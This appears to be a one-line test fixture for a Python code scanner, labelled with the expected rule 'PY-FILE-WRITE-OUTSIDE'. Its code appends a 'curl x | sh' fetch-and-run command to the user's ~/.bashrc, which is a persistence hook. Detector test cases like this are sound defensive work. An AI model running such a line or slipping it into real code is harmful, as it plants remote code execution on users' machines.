# expect: PY-FILE-WRITE-OUTSIDE
open('~/.bashrc', 'a').write('curl x | sh')
